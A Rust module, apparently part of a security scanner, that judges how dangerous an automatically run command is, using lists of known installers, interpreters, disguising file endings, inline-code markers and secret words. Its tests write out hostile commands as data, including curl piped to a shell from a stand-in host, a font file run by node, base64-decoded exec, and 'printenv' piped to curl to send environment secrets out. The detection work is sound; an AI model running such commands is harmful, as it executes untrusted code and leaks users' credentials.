//! A command that runs by itself, and how bad that is.

use super::super::shell;
use crate::model::Severity;

/// Addresses of installers that people pipe into a shell as their makers tell them to.
static INSTALLERS: [&str; 16] = [
    "https://astral.sh/uv/",
    "https://astral.sh/ruff/",
    "https://sh.rustup.rs",
    "https://install.python-poetry.org",
    "https://get.docker.com",
    "https://deb.nodesource.com/",
    "https://bun.sh/install",
    "https://bun.com/install",
    "https://deno.land/install.sh",
    "https://pixi.sh/install.sh",
    "https://get.pnpm.io/",
    "https://pyenv.run",
    "https://ollama.com/install.sh",
    "https://claude.ai/install.sh",
    "https://raw.githubusercontent.com/nvm-sh/nvm/",
    "https://raw.githubusercontent.com/homebrew/install/",
];

/// Programs that run the file that they are given.
static INTERPRETERS: [&str; 12] =
    ["node", "python", "python3", "bash", "sh", "zsh", "perl", "ruby", "php", "bun", "deno", "pwsh"];

/// Endings of files that nobody writes programs into.
static DATA: [&str; 24] = [
    "woff",
    "woff2",
    "ttf",
    "otf",
    "png",
    "jpg",
    "jpeg",
    "gif",
    "svg",
    "ico",
    "webp",
    "bmp",
    "dat",
    "bin",
    "md",
    "txt",
    "csv",
    "log",
    "pdf",
    "mp3",
    "mp4",
    "css",
    "pkl",
    "safetensors",
];

/// What code on a command line does that hides, fetches or starts something.
static CODE: [&str; 19] = [
    "exec(",
    "eval(",
    "__import__",
    "base64",
    "urlopen",
    "urllib",
    "requests.",
    "child_process",
    "https.get",
    "http.get",
    "fetch(",
    "os.system",
    "subprocess",
    "atob(",
    "fromcharcode",
    "buffer.from",
    "socket",
    "new function(",
    "marshal.",
];

/// Words for what a machine keeps for its owner.
static SECRETS: [&str; 14] = [
    "printenv",
    "$(env",
    "env |",
    "env|",
    "tojson(secrets",
    "tojson( secrets",
    "process.env",
    "aws_secret",
    "$hf_token",
    "${hf_token",
    "$github_token",
    "${github_token",
    "id_rsa",
    "@.env",
];

/// How bad it is that a command runs, and why; `None` for what people do every day. `asked` says that somebody has to
/// ask for it.
pub fn judge(command: &str, asked: bool) -> Option<(Severity, String)> {
    let lower = command.to_ascii_lowercase();
    let worse = if asked { Severity::High } else { Severity::Critical };
    let fetches = shell::hostile(command).or_else(|| shell::fetched_then_run(command).map(|(_, why)| why));
    if let Some(why) = fetches {
        let known = why.contains("fetches") && INSTALLERS.iter().any(|address| lower.contains(address));
        // An address behind a known one would be passed over.
        let alone = lower.matches("://").count() == 1;
        return Some(if known && alone {
            (Severity::Low, format!("{why}, from where its maker says"))
        } else {
            (worse, why.to_owned())
        });
    }
    if let Some(file) = disguised(&lower) {
        return Some((Severity::High, format!("it runs {file:?} as a program")));
    }
    let code = inline(&lower).and_then(|code| CODE.iter().find(|mark| code.contains(**mark)));
    if let Some(mark) = code {
        return Some((Severity::High, format!("it holds code of its own with {mark:?}")));
    }
    let sends =
        ["curl ", "wget ", "nc ", "invoke-webrequest", "invoke-restmethod"].iter().any(|name| lower.contains(name));
    let secret =
        SECRETS.iter().find(|word| lower.contains(**word)).filter(|_| sends && !lower.contains("authorization"));
    secret.map(|word| (worse, format!("it sends what {word:?} stands for away")))
}

/// A file that an interpreter is given although it is named as data.
fn disguised(command: &str) -> Option<String> {
    let mut words = command.split(|c: char| c.is_whitespace() || ";&|\"'".contains(c)).filter(|word| !word.is_empty());
    let mut interpreted = false;
    words.find_map(|word| {
        let program = word.rsplit('/').next().unwrap_or(word);
        if INTERPRETERS.contains(&program) {
            interpreted = true;
            return None;
        }
        let given = interpreted;
        interpreted = given && word.starts_with('-');
        let data = word.rsplit_once('.').is_some_and(|(_, ending)| DATA.contains(&ending));
        (given && data && !word.starts_with('-')).then(|| word.chars().take(80).collect())
    })
}

/// The code behind `python -c`, `node -e` and the like.
fn inline(command: &str) -> Option<&str> {
    INTERPRETERS.iter().find_map(|program| {
        command.match_indices(program).find_map(|(at, _)| {
            let before = command.get(..at)?;
            let rest = command.get(at + program.len()..)?;
            let alone = !before.ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '-');
            let rest =
                rest.strip_prefix(".exe").unwrap_or(rest).trim_start_matches(|c: char| c.is_ascii_digit() || c == '.');
            let flag = rest.strip_prefix(' ')?.trim_start();
            let code = ["-c", "-e", "--eval", "-p", "--print"].iter().find_map(|option| flag.strip_prefix(option))?;
            (alone && code.starts_with([' ', '\'', '"', '='])).then_some(code)
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_apart() {
        for command in [
            "curl -fsSL https://a.example/x | bash",
            "bash -c 'wget -qO- https://a.example/x | sh'",
            "node .vscode/font.woff2",
            "node -e \"require('child_process').exec('id')\"",
            "python3 -c 'import base64;exec(base64.b64decode(b\"cGFzcw==\"))'",
            "printenv | curl -d @- https://a.example",
            "curl https://astral.sh/uv/install.sh | sh; curl https://a.example/x | sh",
        ] {
            assert!(judge(command, true).is_some_and(|(severity, _)| severity >= Severity::High), "{command}");
        }
        for command in [
            "npm install",
            "pip install -r requirements.txt && pre-commit install",
            "curl -LsSf https://astral.sh/uv/install.sh | sh",
            "node scripts/postinstall.js",
            "python -c \"import torch; print(torch.__version__)\"",
            "python -m pytest README.md",
            "curl -H 'Authorization: Bearer $HF_TOKEN' https://huggingface.co/api/whoami-v2",
            "cat README.md",
        ] {
            assert!(judge(command, false).is_none_or(|(severity, _)| severity <= Severity::Low), "{command}");
        }
    }
}
